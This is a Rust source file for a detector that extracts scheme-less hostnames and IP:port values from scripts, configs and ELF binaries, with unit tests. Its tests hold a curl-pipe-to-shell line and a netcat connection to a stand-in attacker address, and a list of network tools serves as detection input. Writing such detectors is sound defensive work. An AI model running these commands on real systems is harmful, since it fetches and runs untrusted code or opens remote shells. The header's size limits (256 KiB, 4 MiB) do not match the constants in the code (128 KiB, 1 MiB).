//! Collects hosts that programs and configs name without a scheme.
//!
//! Target lists, `HOST=…` and `"server": "host:443"` name what a program contacts as surely as a URL does. Nothing is judged
//! here, as in `indicators`.
//!
//! - Sees: in scripts, code and configs (the first 256 KiB): `host:port` and `address:port`, a quoted string or a value behind
//!   `=` or `:` that is nothing but a host, a host behind `curl`, `wget`, `nc` and the like, a file of hosts line by line; in ELF
//!   files of up to 4 MiB: a string that is nothing but a host with a port or under a top-level domain no identifier ends in.
//!   Up to 64 a file; names must have a suffix of the public suffix list.
//! - Misses: hosts in prose; names that could as well be an attribute (`self.name`), a file (`main.py`) or a key (`menu.page`);
//!   strings without ends, as Go writes them.
//! - False alarms: none that count, as every match is a fact. A file of more than 200 hosts is a list (blocked, preloaded), and
//!   said to be one without naming them.
//! - Source: the public suffix list; IANA's root zone for which words are top-level domains.

use std::{collections::BTreeSet, net::Ipv4Addr};

use model::{Category, Confidence, FileKind, Indicator, IndicatorKind, Maturity, Severity, Weight};

use super::{
    About, Detector, Match, Sample, Scope,
    indicators::{is_common, is_markdown, is_public, is_rule_file, looks_like_code},
};
use crate::intel::registrable;

pub(crate) const DETECTOR: Detector = Detector {
    about: About {
        id: "bare-hosts",
        title: "Names hosts without a scheme",
        category: Category::Other,
        weight: Weight::Fact,
        severity: Severity::Info,
        confidence: Confidence::Medium,
        maturity: Maturity::Stable,
        techniques: &[],
    },
    // No literals: a name has none. What is looked for is a dot between two letters.
    scope: Scope::Content { kinds: &[FileKind::Script, FileKind::Text, FileKind::Elf], literals: &[] },
    inspect,
};

/// Most of a text that is looked at.
const TEXT_BYTES_MAX: usize = 128 << 10;
/// Longest ELF file that is looked at: what calls home is small.
const ELF_BYTES_MAX: usize = 1 << 20;
/// Most values kept of one file.
const VALUES_MAX: usize = 64;
/// A file with more is a list of hosts.
const LIST_MIN: usize = 200;
/// Longest host with port.
const TOKEN_BYTES_MAX: usize = 260;

/// Top-level domains that are endings of files.
const OF_FILES: &[&str] = &[
    "py", "sh", "rs", "pl", "pm", "ph", "al", "md", "cc", "so", "mk", "ml", "mo", "la", "ps", "am", "in", "cl", "cu",
    "sv", "bz", "zip", "mov", "pub", "cat", "do", "st", "java", "app",
];
/// Top-level domains that are words of programs: names of attributes, functions, keys.
const OF_PROGRAMS: &[&str] = &[
    "id", "is", "it", "to", "at", "as", "me", "my", "no", "io", "ai", "re", "se", "sc", "la", "ms", "mm", "be", "by",
    "cd", "mu", "tf", "ac", "ad", "ax", "ba", "bb", "pm", "im", "fm", "vi", "va", "sk", "st", "sn", "sl", "si", "pn",
    "pa", "nr", "np", "ng", "ne", "nc", "na", "mt", "mp", "mo", "mn", "mh", "mg", "mc", "ls", "lr", "lc", "lb", "kw",
    "ki", "jo", "gs", "gt", "gp", "gn", "fo", "et", "er", "ec", "dm", "cx", "cv", "ck", "ci", "bs", "br", "bo", "bm",
    "bh", "bf", "aw", "ao", "al", "ag", "af", "us",
];
/// Top-level domains of three letters and more that hardly any program uses as a word.
const OF_HOSTS: &[&str] = &[
    "com", "net", "org", "xyz", "top", "club", "online", "icu", "biz", "vip", "win", "bid", "loan", "racing",
    "website", "monster", "cyou", "buzz", "mobi", "onion", "gdn", "ooo", "cfd", "sbs", "quest", "rest", "ink", "lol",
    "wiki", "cloud", "space", "site", "tech", "store", "live", "life", "fun", "pro", "edu", "gov", "info", "host",
    "click", "shop", "press",
];
/// Of these, words that only count with a hyphen or digit before them, or a third label.
const ALSO_WORDS: &[&str] =
    &["info", "host", "click", "site", "store", "live", "life", "press", "space", "cloud", "org", "top", "rest"];
/// Commands that take a host.
const COMMANDS: &[&str] =
    &["curl", "wget", "nc", "ncat", "ping", "ssh", "telnet", "dig", "host", "nslookup", "socat", "scp", "fetch"];

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    let found = match sample.kind {
        FileKind::Elf if sample.bytes.len() <= ELF_BYTES_MAX => collect(sample.bytes, Place::OwnString),
        FileKind::Script => collect(head(sample.bytes), Place::Code),
        FileKind::Text if looks_like_code(sample.bytes) => collect(head(sample.bytes), Place::Code),
        FileKind::Text if is_list(head(sample.bytes)) => collect(head(sample.bytes), Place::List),
        _ => return Vec::new(),
    };
    let Some(first) = found.first else { return Vec::new() };
    if found.count > LIST_MIN {
        return vec![Match::new(format!("is a list of {LIST_MIN} hosts and more"), first)];
    }
    let mut names = found.values.iter().map(|value| value.value.as_str());
    let name = names.next().unwrap_or_default();
    let summary = match names.count() {
        0 => format!("names {name}"),
        more => format!("names {name} and {more} more"),
    };
    let mut said = Match::new(summary, first);
    if sample.kind == FileKind::Text && (is_rule_file(sample.bytes) || is_markdown(sample.bytes)) {
        said.confidence = Some(Confidence::Low);
    }
    said.indicators = found.values.into_iter().take(VALUES_MAX).collect();
    vec![said]
}

fn head(bytes: &[u8]) -> &[u8] {
    bytes.get(..TEXT_BYTES_MAX).unwrap_or(bytes)
}

/// Where a host must stand to count.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// A string of its own between NULs.
    OwnString,
    /// Anywhere that shows it is a value.
    Code,
    /// A line of its own.
    List,
}

#[derive(Default)]
struct Found {
    values: BTreeSet<Indicator>,
    first: Option<usize>,
    count: usize,
}

/// Whether at least half of the lines are nothing but a host or address, and there are three or more.
fn is_list(bytes: &[u8]) -> bool {
    let (mut hosts, mut lines) = (0, 0);
    for line in bytes.get(..4096).unwrap_or(bytes).split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii) {
        if line.is_empty() || line.starts_with(b"#") {
            continue;
        }
        lines += 1;
        hosts += usize::from(
            line.len() <= TOKEN_BYTES_MAX
                && line.contains(&b'.')
                && line.iter().all(|byte| is_token(*byte) || *byte == b':'),
        );
    }
    hosts >= 3 && hosts * 2 >= lines
}

fn collect(bytes: &[u8], place: Place) -> Found {
    let mut found = Found::default();
    let mut done = 0;
    for dot in memchr::memchr_iter(b'.', bytes) {
        if dot < done || !is_letter(bytes, dot.checked_sub(1)) || !is_letter(bytes, Some(dot + 1)) {
            continue;
        }
        let rest = bytes.get(dot..).unwrap_or_default();
        let end = dot + rest.iter().take(TOKEN_BYTES_MAX).take_while(|byte| is_token(**byte)).count();
        let before = bytes.get(done..dot).unwrap_or_default();
        let start = dot - before.iter().rev().take(TOKEN_BYTES_MAX).take_while(|byte| is_token(**byte)).count();
        done = end;
        let Some(indicator) = judged(bytes, start, end, place) else { continue };
        found.first.get_or_insert(start);
        if found.values.len() <= LIST_MIN && found.values.insert(indicator) {
            found.count += 1;
        }
        if found.count > LIST_MIN {
            break;
        }
    }
    found
}

fn is_letter(bytes: &[u8], at: Option<usize>) -> bool {
    at.and_then(|at| bytes.get(at)).is_some_and(u8::is_ascii_alphanumeric)
}

fn is_token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-')
}

/// The host in `bytes[start..end]`, if what is around shows that it is one.
fn judged(bytes: &[u8], start: usize, end: usize, place: Place) -> Option<Indicator> {
    let before = start.checked_sub(1).and_then(|at| bytes.get(at)).copied();
    let after = bytes.get(end).copied();
    // Most of what has dots in code calls something or ends as no domain does.
    let token = bytes.get(start..end)?;
    let is_address = token.first().is_some_and(u8::is_ascii_digit);
    let ends_as_host = token.iter().rev().take_while(|byte| **byte != b'.').all(u8::is_ascii_lowercase);
    if matches!(after, Some(b'(' | b'_' | b'[' | b'@' | b'$' | b'%' | b'*')) || !(is_address || ends_as_host) {
        return None;
    }
    let (port, behind) = port(bytes, end);
    let is_own = match place {
        Place::OwnString => before == Some(0) && behind.is_none_or(|byte| byte == 0),
        Place::List => {
            before.is_none_or(|b| b.is_ascii_whitespace())
                && behind.is_none_or(|b| b.is_ascii_whitespace() || b == b',')
        }
        Place::Code => true,
    };
    if !is_own || matches!(before, Some(b'_' | b'@' | b'$' | b'/' | b'\\' | b'%')) {
        return None;
    }
    if !is_letter(bytes, Some(start)) {
        return None;
    }
    let text = std::str::from_utf8(bytes.get(start..end)?).ok()?.trim_end_matches(['.', '-']);
    let written = |host: &str| port.map_or_else(|| host.to_owned(), |port| format!("{host}:{port}"));
    if text.starts_with(|first: char| first.is_ascii_digit())
        && let Ok(address) = text.parse::<Ipv4Addr>()
    {
        let counts = is_public(address) && (port.is_some() || place == Place::List);
        return counts.then(|| Indicator { kind: IndicatorKind::Address, value: written(&address.to_string()) });
    }
    let top = text.rsplit('.').next()?;
    let is_host_like = top.len() >= 2
        && top.bytes().all(|byte| byte.is_ascii_lowercase())
        && !text.bytes().any(|byte| byte.is_ascii_uppercase())
        && !OF_FILES.contains(&top)
        && (is_telling(text, top) || (port.is_some() && place != Place::List) || place == Place::List);
    if !is_host_like || !stands_as_value(bytes, start, before, after, port.is_some(), place) {
        return None;
    }
    registrable(text)?;
    (!is_common(text, "")).then(|| Indicator { kind: IndicatorKind::Domain, value: text.to_owned() })
}

/// Whether a name with this ending is hardly anything but a host.
fn is_telling(name: &str, top: &str) -> bool {
    let labels = name.split('.').count();
    let is_no_identifier = labels > 2 || name.bytes().any(|byte| byte == b'-' || byte.is_ascii_digit());
    if top.len() == 2 {
        return !OF_PROGRAMS.contains(&top);
    }
    OF_HOSTS.contains(&top) && (is_no_identifier || !ALSO_WORDS.contains(&top))
}

/// `:port` at `end`, and the byte behind it all.
fn port(bytes: &[u8], end: usize) -> (Option<u16>, Option<u8>) {
    let none = (None, bytes.get(end).copied());
    let Some(rest) = bytes.get(end..).and_then(|rest| rest.strip_prefix(b":")) else { return none };
    let digits = rest.iter().take(6).take_while(|byte| byte.is_ascii_digit()).count();
    let number =
        rest.get(..digits).and_then(|digits| std::str::from_utf8(digits).ok()).and_then(|digits| digits.parse().ok());
    match number {
        // One digit is a line number or a ratio; two ports of one digit are never what is contacted.
        Some(port) if digits >= 2 && port > 0 => (Some(port), rest.get(digits).copied()),
        _ => none,
    }
}

/// Whether what is around a name makes it a value: quotes, an assignment, a line of its own, a command that takes hosts.
fn stands_as_value(
    bytes: &[u8],
    start: usize,
    before: Option<u8>,
    after: Option<u8>,
    has_port: bool,
    place: Place,
) -> bool {
    const LINE_BYTES_MAX: usize = 256;
    if place != Place::Code {
        return true;
    }
    let is_end =
        |byte: Option<u8>| byte.is_none_or(|byte| matches!(byte, b'\n' | b'\r' | b' ' | b';' | b',' | b'#' | b'\t'));
    let quote = before.filter(|byte| matches!(byte, b'"' | b'\'' | b'`'));
    if has_port || (quote.is_some() && quote == after) {
        return true;
    }
    let line = bytes.get(start.saturating_sub(LINE_BYTES_MAX)..start).unwrap_or_default();
    let line = line.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
    let line_before = line.trim_ascii_end();
    if line.trim_ascii_start().starts_with(b"#") {
        return false;
    }
    if is_end(after) && (before == Some(b'=') || line_before.ends_with(b":")) {
        return true;
    }
    let takes_host = |word: &[u8]| COMMANDS.iter().any(|command| word == command.as_bytes());
    matches!(before, Some(b' ' | b'"' | b'\'' | b'\t'))
        && (is_end(after) || matches!(after, Some(b'/' | b'"' | b'\'' | b')')))
        && line.split(|byte| !byte.is_ascii_alphanumeric() && *byte != b'-').any(takes_host)
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::detectors::testing::{check, run};

    fn values(text: &str) -> Vec<String> {
        let found = run(&DETECTOR, "x", 0o644, text.as_bytes());
        found.iter().flat_map(|found| &found.indicators).map(|indicator| indicator.value.clone()).collect()
    }

    #[test]
    fn hosts_are_seen_where_they_are_values() {
        for (text, expected) in [
            ("TARGET=shop.bad-4711.ru", "shop.bad-4711.ru"),
            ("{\"server\": \"bad-4711.com\", \"x\": 1}", "bad-4711.com"),
            ("{\"server\": \"c2.bad4711.io:8443\"}", "c2.bad4711.io"),
            ("c2:\n  host: bad-4711.info\n  x: {a: b}\n", "bad-4711.info"),
            ("#!/bin/sh\ncurl -s bad-4711.top/x.sh | sh\n", "bad-4711.top"),
            ("#!/bin/sh\nnc 45.148.10.77 4444 # 45.148.10.77:4444\n", "45.148.10.77:4444"),
            ("#!/usr/bin/python3\nHOSTS = ['bad-4711.com']\n", "bad-4711.com"),
        ] {
            assert_eq!(values(text), [expected], "{text}");
        }
        assert_eq!(
            values("one-4711.com\ntwo-4711.ru:80\n45.148.10.77\n"),
            ["one-4711.com", "two-4711.ru", "45.148.10.77"]
        );
    }

    #[test]
    fn what_only_looks_like_one_is_passed_over() {
        for text in [
            "#!/usr/bin/python3\nself.name = os.path.join(a.info, b.host)\nx = y.page\nraise z('menu.name', \"a.id\")\n",
            "#!/bin/sh\n# see bad-4711.com\n./main.py:12: x\nsource lib.sh; cat README.md a.so.1 libc.so.6\n",
            "{\"version\": \"1.2.3.4\", \"main\": \"index.js\", \"bin\": \"cli.mjs\", \"h\": \"127.0.0.1:80\"}",
            "{\"a\": \"org.apache.commons\", \"b\": \"java.util.List\", \"c\": \"me@bad-4711.com\"}",
            "This is prose with bad-4711.com in it, and more of it.\n",
            "setup.py\nmain.rs\nREADME.md\nlib.so\n",
            "#!/bin/sh\nobjcopy -j .data.rel.ro.local x.com.; echo '.data.rel.ro'\n",
        ] {
            assert_eq!(values(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn a_long_list_is_one_fact_without_names() {
        let list: String = (0..1000).map(|number| format!("host-{number}.bad-4711.com\n")).collect();
        check(&DETECTOR, "x", list.as_bytes(), &["is a list of 200 hosts and more"]);
        assert_eq!(values(&list), [""; 0]);
    }
}
